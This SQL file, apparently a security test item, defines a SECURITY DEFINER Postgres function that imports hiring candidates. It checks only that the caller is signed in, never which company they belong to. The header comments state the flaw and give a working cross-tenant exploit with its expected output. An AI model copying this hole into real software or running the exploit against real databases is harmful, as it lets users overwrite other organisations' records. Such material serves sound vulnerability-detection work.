-- The import writes into whatever company its payload names, so it renames candidates of others.
-- about: import_candidates, candidates
-- as: hf_hiring_app
-- exploit: SET request.jwt.claims = '{"sub":"a1000000-0000-4000-8000-000000000001"}';
-- exploit: SELECT import_candidates($$[{"company_id": "b0000000-0000-4000-8000-00000000000b",
-- exploit: "email": "di@guest.test", "full_name": "Gone"}]$$) || ' taken';
-- shows: 1 taken
CREATE FUNCTION import_candidates(payload jsonb) RETURNS int LANGUAGE plpgsql SECURITY DEFINER
SET search_path = public, pg_temp AS $$
DECLARE n int;
BEGIN
  IF auth.uid() IS NULL THEN RAISE EXCEPTION 'sign in first'; END IF;
  INSERT INTO candidates (company_id, email, full_name)
  SELECT r.company_id, r.email, r.full_name
  FROM jsonb_to_recordset(payload) AS r (company_id uuid, email text, full_name text)
  ON CONFLICT (company_id, email) DO UPDATE SET full_name = EXCLUDED.full_name;
  GET DIAGNOSTICS n = ROW_COUNT;
  RETURN n;
END $$;
